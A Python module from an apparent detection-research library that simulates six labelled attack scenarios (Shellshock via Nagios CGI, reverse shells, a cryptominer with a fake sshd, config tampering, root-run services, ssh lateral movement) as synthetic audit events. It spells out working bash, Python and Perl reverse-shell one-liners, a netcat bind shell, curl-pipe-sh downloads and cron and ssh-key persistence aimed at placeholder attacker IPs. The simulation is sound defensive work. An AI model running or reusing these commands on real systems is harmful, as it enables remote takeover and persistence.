"""Labelled attack scenarios that can be injected into any simulated host at any time.

Each scenario is a :class:`Scenario` value (name, host, time, options). When a
simulation is built, the scenario adds one-off template instances to the fleet
plan (and, for :func:`unexpected_user`, a service run); every event they cause,
children included, carries the scenario's name and a step in the labels table.
If the chosen host lacks a service the attack goes through (Shellshock needs
apache2, the reverse shell a web application), the service is added to that
host's configuration, so it boots with it.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pandas as pd

from behavemodel.datasets import _catalog as cat
from behavemodel.datasets._plan import DAY_MS, HOUR_MS, FleetPlan, Once
from behavemodel.datasets._sessions import Cmd, command_template, session_template
from behavemodel.datasets._templates import (
    INHERIT,
    Child,
    Daemon,
    Exec,
    Fork,
    Template,
    accept,
    bind,
    chmod,
    connect,
    exec_,
    mkdir,
    rename,
    template,
    user_record,
    write,
)

__all__ = [
    "SCENARIOS",
    "Scenario",
    "app_dir_tamper",
    "lateral_movement",
    "resolve_scenarios",
    "reverse_shell",
    "shellshock",
    "unexpected_user",
    "unknown_binary",
]

ATTACKER = "203.0.113.50"  # the attacker's download / callback server
ATTACKER_CLIENT = "203.0.113.66"  # where the attacker connects from
POOL_C2 = "203.0.113.99"
LOOKALIKE_C2 = "198.51.100.250"


@dataclass(frozen=True)
class Scenario:
    """An attack to inject into a simulation.

    Parameters
    ----------
    name : str
        One of :data:`SCENARIOS`.
    host : str, optional
        Host to attack; default a host of the scenario's preferred group.
    at : str, datetime, Timestamp or Timedelta, optional
        When it starts: an absolute time, or an offset from the simulation start
        (``pd.Timedelta("30h")``); default a random time in the last simulated day.
    options : mapping
        Scenario-specific options (``variant`` of the reverse shell, ``target``
        host of the lateral movement, ``service`` run as root).

    Examples
    --------
    >>> from behavemodel.datasets import Scenario, shellshock
    >>> shellshock(host="monitoring-01", at="2024-03-04T14:00:00Z")
    Scenario(name='shellshock', host='monitoring-01', at='2024-03-04T14:00:00Z', options={})
    """

    name: str
    host: str | None = None
    at: str | dt.datetime | pd.Timestamp | pd.Timedelta | None = None
    options: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if self.name not in SCENARIOS:
            raise ValueError(
                f"Unknown scenario {self.name!r}; choose among {sorted(SCENARIOS)} or 'all'."
            )

    def inject(self, plan: FleetPlan, rng: np.random.Generator) -> None:
        """Add this scenario's activity to a fleet plan."""
        spec = SCENARIOS[self.name]
        host = _pick_host(plan, self.host, spec.group, rng, self.name)
        t = _pick_time(plan, self.at, rng, spec.duration_ms)
        for service in spec.requires:
            plan.add_service(host, service)
        spec.build(plan, host, t, rng, self)


@dataclass(frozen=True)
class _Spec:
    description: str
    group: str
    requires: tuple[str, ...]
    duration_ms: int
    build: Callable[[FleetPlan, int, int, np.random.Generator, Scenario], None]


def _pick_host(
    plan: FleetPlan, name: str | None, group: str, rng: np.random.Generator, scenario: str
) -> int:
    if name is not None:
        return plan.host_index(name)
    candidates = plan.hosts_of(group) or [h.index for h in plan.hosts]
    return int(candidates[int(rng.integers(0, len(candidates)))])


def _pick_time(plan: FleetPlan, at: Any, rng: np.random.Generator, duration_ms: int) -> int:
    if at is None:
        lo = max(plan.start_ms + 15 * 60_000, plan.end_ms - DAY_MS)
        hi = max(lo + 1, plan.end_ms - duration_ms - 10 * 60_000)
        return int(rng.integers(lo, hi))
    if isinstance(at, pd.Timedelta | dt.timedelta):
        return plan.start_ms + int(pd.Timedelta(at).value // 1_000_000)
    if isinstance(at, str) and not any(ch in at for ch in "-:T"):
        return plan.start_ms + int(pd.Timedelta(at).value // 1_000_000)
    ts = pd.Timestamp(at)
    if ts.tzinfo is None:
        ts = ts.tz_localize("UTC")
    t = int(ts.value // 1_000_000)
    if not plan.start_ms <= t < plan.end_ms:
        raise ValueError(
            f"The scenario time {at!r} is outside the simulated period "
            f"[{pd.Timestamp(plan.start_ms, unit='ms', tz='UTC')}, "
            f"{pd.Timestamp(plan.end_ms, unit='ms', tz='UTC')})."
        )
    return t


def _once(plan: FleetPlan, tpl: Template, host: int, t: int, name: str, **kw: Any) -> None:
    plan.onces.append(Once(tpl, host, t, label=name, **kw))


# --- 1. Shellshock through a Nagios CGI ----------------------------------------------

_SSI = "/usr/share/nagios4/htdocs/ssi/common-header.ssi"
_DROP = "/tmp/.nagios_update.sh"
_CGI = "/usr/lib/cgi-bin/nagios4/summary.cgi"
_SSH_KEY = ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA7nBqUo7x9gq5wSuxd0K9LCQbwr1uSx"
            "Kq3Eu0Sr7k attacker@kali")  # fmt: skip


def _request(i: int, at: float) -> tuple[dict[str, Any], list[Any]]:
    """One HTTP request that makes summary.cgi run the ssi script through bash."""
    procs = {
        f"cgi{i}": Exec(
            (_CGI,), parent=Daemon("apache2", worker=True), cwd="/usr/lib/cgi-bin/nagios4"
        ),
        f"sh{i}": Exec(("sh", "-c", _SSI), parent=f"cgi{i}", path="/bin/sh"),
        f"ssi{i}": Exec((_SSI,), parent=f"sh{i}"),
    }
    events = [
        accept("web", ATTACKER_CLIENT, "eport", at, step="exploit_request"),
        exec_(f"cgi{i}", at + 0.01, step="cgi"),
        exec_(f"sh{i}", at + 0.03, step="ssi"),
        exec_(f"ssi{i}", at + 0.035, step="ssi"),
    ]
    return procs, events


def _shellshock_template() -> Template:
    procs: dict[str, Any] = {"web": Daemon("apache2", worker=True)}
    events: list[Any] = []
    for i, at in enumerate((0.0, 21.0, 44.0)):
        p, e = _request(i, at)
        procs.update(p)
        events += e
    procs.update({
        "curl": Exec(
            ("/usr/bin/curl", "-s", "-o", _DROP, f"http://{ATTACKER}/x.sh"), parent="ssi0"
        ),
        "chmod": Exec(("/bin/chmod", "755", _DROP), parent="ssi1"),
        "drop": Exec((_DROP,), parent="ssi2", interp="/bin/bash", long=True),
        "nc": Exec(("/bin/nc.traditional", "-l", "-p", "4444", "-e", "/bin/bash"), parent="drop",
                   long=True),
        "ncsh": Exec(("/bin/bash",), same_pid="nc"),
        "cl": Exec(("crontab", "-l"), parent="drop"),
        "ct": Exec(("crontab", "-"), parent="drop"),
        "mk": Exec(("mkdir", "-p", "/var/www/.ssh"), parent="drop"),
        "id": Exec(("id",), parent="ncsh"),
        "un": Exec(("uname", "-a"), parent="ncsh"),
        "pw": Exec(("cat", "/etc/passwd"), parent="ncsh"),
        "ps": Exec(("ps", "aux"), parent="ncsh"),
    })  # fmt: skip
    events += [
        exec_("curl", 0.04, step="download"),
        connect("curl", ATTACKER, 80, 0.06, step="download"),
        write("curl", _DROP, 0.3, step="download"),
        exec_("chmod", 21.04, step="chmod"),
        chmod("chmod", _DROP, 0o755, 21.05, step="chmod"),
        exec_("drop", 44.04, step="execute"),
        exec_("nc", 44.1, step="bind_shell"),
        bind("nc", "0.0.0.0", 4444, 44.11, step="bind_shell"),
        exec_("cl", 44.2, step="persistence_cron"),
        exec_("ct", 44.21, step="persistence_cron"),
        write("ct", "/var/spool/cron/crontabs/tmp.{tmp6}", 44.25, step="persistence_cron"),
        rename(
            "ct",
            "/var/spool/cron/crontabs/tmp.{tmp6}",
            "/var/spool/cron/crontabs/www-data",
            44.26,
            step="persistence_cron",
        ),
        exec_("mk", 44.3, step="persistence_ssh_key"),
        mkdir("mk", "/var/www/.ssh", 44.31, step="persistence_ssh_key"),
        write(
            "drop", "/var/www/.ssh/authorized_keys", 44.35, append=True, step="persistence_ssh_key"
        ),
        accept("nc", ATTACKER_CLIENT, "eport2", 95.0, step="interactive", syscall="accept"),
        exec_("ncsh", 95.01, step="interactive"),
        exec_("id", 101.0, step="interactive"),
        exec_("un", 104.0, step="interactive"),
        exec_("pw", 110.0, step="interactive"),
        exec_("ps", 118.0, step="interactive"),
    ]
    cron_run = template(
        "shellshock_cron_job",
        {
            "cronx": Fork(Daemon("cron")),
            "sh": Exec(
                ("/bin/sh", "-c", "/bin/nc.traditional -l -p 4444 -e /bin/bash"),
                parent=Daemon("cron"),
                user="www-data",
                cwd="/var/www",
            ),
            "nc": Exec(
                ("/bin/nc.traditional", "-l", "-p", "4444", "-e", "/bin/bash"), same_pid="sh"
            ),
        },
        [
            user_record(
                "USER_ACCT", "cronx", 0.0, ctx="unset", terminal="cron", addr="?", acct="www-data"
            ),
            user_record(
                "CRED_ACQ", "cronx", 0.001, ctx="unset", terminal="cron", addr="?", acct="www-data"
            ),
            user_record("LOGIN", "cronx", 0.002),
            user_record("USER_START", "cronx", 0.003, terminal="cron", addr="?", acct="www-data"),
            exec_("sh", 0.006),
            exec_("nc", 0.008),
            bind("nc", "0.0.0.0", 4444, 0.01, exit=-98, success=False),
            user_record("CRED_DISP", "cronx", 0.05, terminal="cron", addr="?", acct="www-data"),
            user_record("USER_END", "cronx", 0.051, terminal="cron", addr="?", acct="www-data"),
        ],
        ctx="cron",
        step="persistence_cron_run",
        cron_user="www-data",
    )
    return template(
        "shellshock_nagios",
        procs,
        events,
        ctx="daemon",
        children=[Child(cron_run, every=60.0, between=(120.0, 1920.0))],
    )


def _build_shellshock(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    # cron fires on the minute
    _once(plan, SHELLSHOCK, host, t, sc.name)


# --- 2. Reverse shell from a web application worker -----------------------------------


def _payload(n: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    state = 12345
    out = []
    for _ in range(n):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(alphabet[state % 64])
    return "".join(out)


_STAGE2 = "import base64,zlib;exec(zlib.decompress(base64.b64decode('" + _payload(9200) + "')))"


def _post_exploitation(shell: str, start: float) -> tuple[dict[str, Any], list[Any]]:
    cmds = [
        ("id",),
        ("whoami",),
        ("uname", "-a"),
        ("cat", "/etc/passwd"),
        ("ls", "-la", "/srv/shop"),
        ("ps", "aux"),
        ("sudo", "-l"),
    ]
    procs: dict[str, Any] = {}
    events: list[Any] = []
    for i, argv in enumerate(cmds):
        k = f"c{i}"
        procs[k] = Exec(argv, parent=shell)
        events.append(exec_(k, start + 4.0 * i + 3.0, step="interactive"))
    procs["pty"] = Exec(("python3", "-c", 'import pty; pty.spawn("/bin/bash")'), parent=shell)
    procs["pbash"] = Exec(("/bin/bash",), parent="pty")
    procs["dl"] = Exec(("curl", "-s", "-o", "/tmp/.s2", f"http://{ATTACKER}/s2"), parent="pbash")
    procs["s2"] = Exec(("python3", "-c", _STAGE2), parent="pbash")
    t = start + 4.0 * len(cmds) + 5.0
    events += [
        exec_("pty", t, step="interactive"),
        exec_("pbash", t + 0.05, step="interactive"),
        exec_("dl", t + 20.0, step="stage2"),
        connect("dl", ATTACKER, 80, t + 20.05, step="stage2"),
        write("dl", "/tmp/.s2", t + 20.3, step="stage2"),
        exec_("s2", t + 30.0, step="stage2"),
        connect("s2", ATTACKER, 8443, t + 30.5, step="stage2"),
    ]
    return procs, events


def _reverse_shell_template(variant: str) -> Template:
    worker = Daemon("shop", worker=True)
    if variant == "bash":
        procs: dict[str, Any] = {
            "sh": Exec(
                ("/bin/sh", "-c", f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'"),
                parent=worker,
            ),
            "bc": Exec(("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"), parent="sh"),
            "shell": Exec(("bash", "-i"), same_pid="bc"),
        }
        events: list[Any] = [
            exec_("sh", 0.0, step="spawn_shell"),
            exec_("bc", 0.003, step="spawn_shell"),
            connect("bc", ATTACKER, 4444, 0.006, step="connect_back"),
            exec_("shell", 0.008, step="connect_back"),
        ]
    elif variant == "python":
        code = (
            f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            f's.connect(("{ATTACKER}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
            f'os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/sh")'
        )
        procs = {
            "py": Exec(("python3", "-c", code), parent=worker),
            "shell": Exec(("/bin/sh",), parent="py"),
        }
        events = [
            exec_("py", 0.0, step="spawn_shell"),
            connect("py", ATTACKER, 4444, 0.04, step="connect_back"),
            exec_("shell", 0.05, step="connect_back"),
        ]
    elif variant == "perl":
        code = (
            f'use Socket;$i="{ATTACKER}";$p=4444;socket(S,PF_INET,SOCK_STREAM,'
            f'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{'
            f'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
            f'exec("/bin/sh -i");}};'
        )
        procs = {
            "sh": Exec(("/bin/sh", "-c", f"perl -e '{code}'"), parent=worker),
            "pl": Exec(("perl", "-e", code), parent="sh"),
            "shell": Exec(("/bin/sh", "-i"), same_pid="pl"),
        }
        events = [
            exec_("sh", 0.0, step="spawn_shell"),
            exec_("pl", 0.004, step="spawn_shell"),
            connect("pl", ATTACKER, 4444, 0.02, step="connect_back"),
            exec_("shell", 0.03, step="connect_back"),
        ]
    else:
        raise ValueError(
            f"The 'variant' option of the reverse_shell scenario must be 'bash', 'python' or "
            f"'perl'. Got {variant!r} instead."
        )
    # the malicious request: nginx passes it to a gunicorn worker, which runs the payload
    procs["ngx"] = Daemon("nginx", worker=True)
    procs["app"] = worker
    events = [
        accept("ngx", ATTACKER_CLIENT, "eport", -0.05, step="exploit_request"),
        connect("ngx", "127.0.0.1", 8000, -0.045, step="exploit_request"),
        accept("app", "127.0.0.1", "eport2", -0.044, step="exploit_request"),
        *events,
    ]
    p, e = _post_exploitation("shell", 1.0)
    procs.update(p)
    events += e
    return template(f"reverse_shell_{variant}", procs, events, ctx="daemon")


def _build_reverse_shell(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    variant = str(sc.options.get("variant", "bash"))
    _once(plan, _reverse_shell_template(variant), host, t, sc.name)


# --- 3. Unknown binaries phoning home (a miner and a daemon lookalike) ------------------

_MINER = "/var/tmp/.cache/kdevtmpfsi"
_LOOKALIKE = "/dev/shm/.x/sshd"


def _unknown_binary_template() -> Template:
    miner_beacon = template(
        "miner_pool_connect",
        {"m": Fork(INHERIT)},
        [connect("m", POOL_C2, 3333, 0.0, step="mining")],
        step="mining",
    )
    c2_beacon = template(
        "lookalike_c2_beacon",
        {"d": Fork(INHERIT)},
        [connect("d", LOOKALIKE_C2, 443, 0.0, step="c2_beacon")],
        step="c2_beacon",
    )
    procs: dict[str, Any] = {
        "cronx": Fork(Daemon("cron")),
        "sh": Exec(
            ("/bin/sh", "-c", f"curl -fsSL http://{ATTACKER}/k.sh | sh"),
            parent=Daemon("cron"),
            user="deploy",
            cwd="/home/deploy",
        ),
        "curl1": Exec(("curl", "-fsSL", f"http://{ATTACKER}/k.sh"), parent="sh"),
        "sh2": Exec(("sh",), parent="sh"),
        "mkd": Exec(("mkdir", "-p", "/var/tmp/.cache", "/dev/shm/.x"), parent="sh2"),
        "curl2": Exec(
            ("curl", "-fsSL", "-o", _MINER, f"http://{ATTACKER}/kdevtmpfsi"), parent="sh2"
        ),
        "chm": Exec(("chmod", "+x", _MINER), parent="sh2"),
        "miner": Exec(
            (_MINER, "-o", f"stratum+tcp://{POOL_C2}:3333", "--donate-level", "1"),
            parent="sh2",
            long=True,
            title=("[kworker/u8:3-events]",),
        ),
        "cp": Exec(("cp", _MINER, _LOOKALIKE), parent="sh2"),
        "look": Exec((_LOOKALIKE, "-D"), parent="sh2", long=True, comm="sshd"),
    }
    events = [
        user_record("USER_ACCT", "cronx", 0.0, ctx="unset", terminal="cron", addr="?"),
        user_record("CRED_ACQ", "cronx", 0.001, ctx="unset", terminal="cron", addr="?"),
        user_record("LOGIN", "cronx", 0.002),
        user_record("USER_START", "cronx", 0.003, terminal="cron", addr="?"),
        exec_("sh", 0.006, step="download"),
        exec_("curl1", 0.01, step="download"),
        exec_("sh2", 0.011, step="download"),
        connect("curl1", ATTACKER, 80, 0.03, step="download"),
        exec_("mkd", 0.5, step="install"),
        mkdir("mkd", "/var/tmp/.cache", 0.51, step="install"),
        mkdir("mkd", "/dev/shm/.x", 0.52, step="install"),
        exec_("curl2", 0.6, step="download"),
        connect("curl2", ATTACKER, 80, 0.62, step="download"),
        write("curl2", _MINER, 0.7, step="download"),
        exec_("chm", 3.0, step="install"),
        chmod("chm", _MINER, 0o755, 3.01, step="install"),
        exec_("miner", 3.1, step="mining"),
        connect("miner", POOL_C2, 3333, 3.5, step="mining"),
        exec_("cp", 3.2, step="install"),
        write("cp", _LOOKALIKE, 3.25, step="install"),
        exec_("look", 3.4, step="c2_beacon"),
        connect("look", LOOKALIKE_C2, 443, 4.0, step="c2_beacon"),
        user_record("CRED_DISP", "cronx", 4.5, terminal="cron", addr="?"),
        user_record("USER_END", "cronx", 4.501, terminal="cron", addr="?"),
    ]
    return template(
        "unknown_binary",
        procs,
        events,
        ctx="cron",
        cron_user="deploy",
        step="download",
        children=[
            Child(miner_beacon, parent="miner", every=300.0, between=(60.0, 4 * 3600.0)),
            Child(c2_beacon, parent="look", every=600.0, between=(120.0, 4 * 3600.0)),
        ],
    )


def _build_unknown_binary(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    t = t - t % 60_000 + int(rng.integers(0, 700))  # cron fires on the minute
    _once(plan, UNKNOWN_BINARY, host, t, sc.name, user="deploy")


# --- 4. Someone other than chef changes the application directory ------------------------

_APP_FILES = {
    "web": ("/srv/shop/releases/{shop_rel}/shop", "settings.py"),
    "worker": ("/opt/billing", "application.yml"),
    "db": ("/etc/postgresql/15/main", "pg_hba.conf"),
    "monitoring": ("/etc/nagios4", "nagios.cfg"),
    "cache": ("/etc/redis", "redis.conf"),
    "bastion": ("/etc/ssh", "sshd_config"),
}


def _tamper_template(group: str) -> Template:
    directory, name = _APP_FILES.get(group, ("/etc", "motd"))
    path = f"{directory}/{name}"
    edits = (
        (command_template(Cmd(f"vim {name}", writes=(path,), cwd=directory), "tamper_vim"), 1.0),
    )
    sed_tpl = template(
        "tamper_sed",
        {"sed": Exec(("sed", "-i", "s/^DEBUG = False/DEBUG = True/", name), cwd=directory)},
        [
            exec_("sed", 0.0),
            write("sed", f"{directory}/sed{{tmp6}}", 0.01, name="./sed{tmp6}"),
            rename(
                "sed",
                f"{directory}/sed{{tmp6}}",
                path,
                0.02,
                src_name="./sed{tmp6}",
                dst_name=name,
                syscall="rename",
            ),
        ],
        step="edit",
    )
    look = tuple(
        (command_template(Cmd(c), f"tamper_look_{i}"), 1.0)
        for i, c in enumerate((f"ls -la {directory}", f"cat {path}", "git status", "id"))
    )
    session = session_template(
        f"tamper_session_{group}",
        look,
        mean_commands=2.0,
        step="login",
        extra_children=[
            Child(edits, parent="shell", count=1, between=(40.0, 40.0)),
            Child(sed_tpl, parent="shell", count=1, between=(95.0, 95.0)),
        ],
    )
    return session


def _set_steps(tpl: Template, step: str) -> Template:
    return template(
        tpl.name,
        dict(tpl.procs),
        list(tpl.events),
        ctx=tpl.ctx,
        children=tpl.children,
        peer=tpl.peer,
        peer_service=tpl.peer_service,
        vars=dict(tpl.vars),
        step=step,
        **dict(tpl.meta),
    )


def _build_tamper(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    group = plan.hosts[host].group
    user = str(sc.options.get("user", "alice"))
    bastions = plan.hosts_of("bastion")
    src = plan.hosts[bastions[0]].ip if bastions and bastions[0] != host else cat.POOLS["vpn"][0]
    tpl = _tamper_template(group)
    edits = tpl.children[1].template
    assert isinstance(edits, tuple)
    children = (
        tpl.children[0],
        Child(
            tuple((_set_steps(t_, "edit"), w) for t_, w in edits),
            parent="shell",
            count=1,
            between=(40.0, 40.0),
        ),
        tpl.children[2],
    )
    tpl = template(
        tpl.name,
        dict(tpl.procs),
        list(tpl.events),
        ctx="session",
        children=children,
        vars=dict(tpl.vars),
        step="login",
    )
    plan.onces.append(
        Once(tpl, host, t, vars={"src_ip": src, "dur": 300.0}, label=sc.name, user=user)
    )


# --- 5. A daemon running as an unexpected user ------------------------------------------

_PREFERRED_SERVICES = ("redis", "postgresql", "shop", "billing", "prometheus", "nagios",
                       "memcached", "node_exporter")  # fmt: skip


def _build_unexpected_user(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    h = plan.hosts[host]
    service = sc.options.get("service")
    if service is None:
        service = next(s_ for s_ in _PREFERRED_SERVICES if s_ in h.services)
    elif service not in h.services:
        plan.add_service(host, service)
    user = str(sc.options.get("user", "root"))
    hours = float(sc.options.get("hours", 2.0))
    plan.restart(
        host,
        service,
        t,
        user=user,
        label=sc.name,
        start_step="start_as_" + user,
        serve_step="serve_as_" + user,
    )
    fix = t + int(hours * HOUR_MS)
    if fix < plan.end_ms:
        plan.restart(host, service, fix)


# --- 6. Lateral movement over ssh ------------------------------------------------------


def _lateral_template(target_group: str) -> Template:
    recon = tuple((_set_steps(command_template(Cmd(c, net=n), f"lateral_remote_{i}"),
                              "remote_commands"), 1.0)
                  for i, (c, n) in enumerate((
                      ("id", None), ("hostname", None), ("cat /etc/passwd", None),
                      ("sudo -l", None), ("ss -tlnp", None),
                      (f"curl -s -o /tmp/.d http://{ATTACKER}/d", f"{ATTACKER}:80"),
                  )))  # fmt: skip
    remote = session_template(
        f"lateral_session_{target_group}", recon, mean_commands=6.0, step="remote_login"
    )
    hop = template(
        "lateral_ssh",
        {
            "ssh": Exec(
                ("ssh", "-o", "StrictHostKeyChecking=no", "deploy@{peer_ip}"), parent=INHERIT
            )
        },
        [
            exec_("ssh", step="ssh_connect"),
            connect("ssh", "{peer_ip}", 22, 0.01, step="ssh_connect"),
        ],
        step="ssh_connect",
        children=[Child(remote, on="peer", between=(0.05, 0.05), pass_vars=(("src_ip", "ip"),))],
    )
    look = tuple(
        (_set_steps(command_template(Cmd(c), f"lateral_local_{i}"), "discovery"), 1.0)
        for i, c in enumerate(
            ("id", "cat /home/deploy/.ssh/known_hosts", "ip neigh", "cat /etc/hosts")
        )
    )
    return session_template(
        "lateral_source_session",
        look,
        mean_commands=3.0,
        step="initial_access",
        extra_children=[Child(hop, parent="shell", count=1, between=(60.0, 60.0))],
    )


def _build_lateral(
    plan: FleetPlan, host: int, t: int, rng: np.random.Generator, sc: Scenario
) -> None:
    target_name = sc.options.get("target")
    if target_name is not None:
        target = plan.host_index(str(target_name))
    else:
        cands = [i for i in plan.hosts_of("db") if i != host] or [
            h.index for h in plan.hosts if h.index != host
        ]
        if not cands:
            raise ValueError("The lateral_movement scenario needs at least two hosts.")
        target = int(cands[int(rng.integers(0, len(cands)))])
    if target == host:
        raise ValueError(
            "The lateral_movement scenario needs a target other than its source host."
        )
    tpl = _lateral_template(plan.hosts[target].group)
    plan.onces.append(
        Once(
            tpl,
            host,
            t,
            vars={"src_ip": ATTACKER_CLIENT, "dur": 400.0},
            label=sc.name,
            peer=target,
            user="deploy",
        )
    )


SHELLSHOCK = _shellshock_template()
UNKNOWN_BINARY = _unknown_binary_template()

SCENARIOS: dict[str, _Spec] = {
    "shellshock": _Spec(
        "Shellshock through a Nagios CGI: summary.cgi runs an ssi script with bash, which "
        "downloads a script with curl to /tmp, chmods it 755 and runs it; the script starts a "
        "netcat bind shell, adds a cron job and appends an ssh key to authorized_keys.",
        "monitoring", ("apache2",), 40 * 60_000, _build_shellshock),
    "reverse_shell": _Spec(
        "A reverse shell from a web application worker (bash -i to /dev/tcp, or a python or "
        "perl one-liner), then discovery and a second stage with a long inline payload.",
        "web", ("nginx", "shop"), 10 * 60_000, _build_reverse_shell),
    "unknown_binary": _Spec(
        "A planted cron job downloads and starts a miner that connects to a mining pool, and "
        "a copy named sshd run from /dev/shm that beacons out.",
        "worker", (), 4 * HOUR_MS + 10 * 60_000, _build_unknown_binary),
    "app_dir_tamper": _Spec(
        "Someone other than chef (alice, over ssh) edits files in the application directory.",
        "web", (), 30 * 60_000, _build_tamper),
    "unexpected_user": _Spec(
        "A service restarted as root instead of its own account, serving for two hours.",
        "cache", (), 2 * HOUR_MS + 10 * 60_000, _build_unexpected_user),
    "lateral_movement": _Spec(
        "A stolen deploy key used from the internet on one host, then ssh to another host in "
        "the fleet (connect on one, accept and login on the other) and discovery there.",
        "web", (), 30 * 60_000, _build_lateral),
}  # fmt: skip


def shellshock(host: str | None = None, at: Any = None) -> Scenario:
    """Shellshock through a Nagios CGI, as in the Threat Stack post.

    summary.cgi (run by apache2) executes an ssi script with bash; an attacker's
    ``User-Agent`` makes bash run curl (download to /tmp), chmod 755 and the script,
    which starts a netcat bind shell, adds a cron job and appends an ssh key.
    Without ``host``, a monitoring host is chosen; a host without apache2 gets it.

    Parameters
    ----------
    host : str, optional
    at : str, datetime, Timestamp or Timedelta, optional
        Absolute time, or offset from the start (``"1h"``); default the last day.

    Examples
    --------
    >>> from behavemodel.datasets import shellshock
    >>> shellshock("monitoring-01", at="90min").name
    'shellshock'
    """
    return Scenario("shellshock", host, at)


def reverse_shell(host: str | None = None, at: Any = None, *, variant: str = "bash") -> Scenario:
    """A reverse shell from a web application worker, then discovery and a second stage.

    ``variant`` is ``bash`` (``bash -i >& /dev/tcp/...``), ``python`` or ``perl``.
    The second stage is a ``python3 -c`` with a 9 kB inline payload, which the
    kernel splits over several EXECVE records.

    Examples
    --------
    >>> from behavemodel.datasets import reverse_shell
    >>> reverse_shell("web-01", variant="perl").options
    {'variant': 'perl'}
    """
    if variant not in ("bash", "python", "perl"):
        raise ValueError(
            f"The 'variant' parameter of reverse_shell must be 'bash', 'python' or 'perl'. "
            f"Got {variant!r} instead."
        )
    return Scenario("reverse_shell", host, at, {"variant": variant})


def unknown_binary(host: str | None = None, at: Any = None) -> Scenario:
    """A planted cron job starts a miner and a copy of it named ``sshd`` in ``/dev/shm``.

    Both connect out for hours (the miner to a mining pool every five minutes, the
    lookalike to its controller every ten), from paths no benign host uses.

    Examples
    --------
    >>> from behavemodel.datasets import unknown_binary
    >>> unknown_binary(at="2024-03-04T03:00:00Z").at
    '2024-03-04T03:00:00Z'
    """
    return Scenario("unknown_binary", host, at)


def app_dir_tamper(host: str | None = None, at: Any = None, *, user: str = "alice") -> Scenario:
    """``user`` logs in and edits the application directory (vim, then ``sed -i``).

    Benign writes there come only from chef (root) and deploys; these come from a
    person's account.

    Examples
    --------
    >>> from behavemodel.datasets import app_dir_tamper
    >>> app_dir_tamper("web-01", user="bob").options
    {'user': 'bob'}
    """
    return Scenario("app_dir_tamper", host, at, {"user": user})


def unexpected_user(
    host: str | None = None,
    at: Any = None,
    *,
    service: str | None = None,
    user: str = "root",
    hours: float = 2.0,
) -> Scenario:
    """Restart a service of the host as ``user`` (root) for ``hours``, then properly.

    Every event of the service in that window (its start, its binds, what it
    accepts and forks) is labelled. The default service is the first of redis,
    postgresql, shop, billing, prometheus, nagios, memcached, node_exporter the
    host runs.

    Examples
    --------
    >>> from behavemodel.datasets import unexpected_user
    >>> unexpected_user("cache-01", service="redis").options
    {'user': 'root', 'hours': 2.0, 'service': 'redis'}
    """
    options: dict[str, Any] = {"user": user, "hours": hours}
    if service is not None:
        options["service"] = service
    return Scenario("unexpected_user", host, at, options)


def lateral_movement(
    host: str | None = None, at: Any = None, *, target: str | None = None
) -> Scenario:
    """A stolen deploy key used from the internet on ``host``, then ssh to ``target``.

    The ``connect`` is on one host, the ``accept`` and the login on the other
    (from the first host's address), followed by discovery commands there.

    Examples
    --------
    >>> from behavemodel.datasets import lateral_movement
    >>> lateral_movement("web-01", target="db-01").options
    {'target': 'db-01'}
    """
    options = {} if target is None else {"target": target}
    return Scenario("lateral_movement", host, at, options)


def resolve_scenarios(scenarios: Iterable[str | Scenario] | str | None) -> tuple[Scenario, ...]:
    """Normalise the ``scenarios`` argument of the simulator.

    Examples
    --------
    >>> [s.name for s in resolve_scenarios("all")][:2]
    ['shellshock', 'reverse_shell']
    >>> resolve_scenarios(None)
    ()
    """
    if scenarios is None:
        return ()
    if isinstance(scenarios, str | Scenario):
        scenarios = [scenarios]
    out: list[Scenario] = []
    for item in scenarios:
        if isinstance(item, Scenario):
            out.append(item)
        elif item == "all":
            out.extend(Scenario(name) for name in SCENARIOS)
        elif isinstance(item, str):
            out.append(Scenario(item))
        else:
            raise TypeError(
                f"Scenarios are names (one of {sorted(SCENARIOS)}, or 'all') or Scenario "
                f"values; got {item!r}."
            )
    return tuple(out)
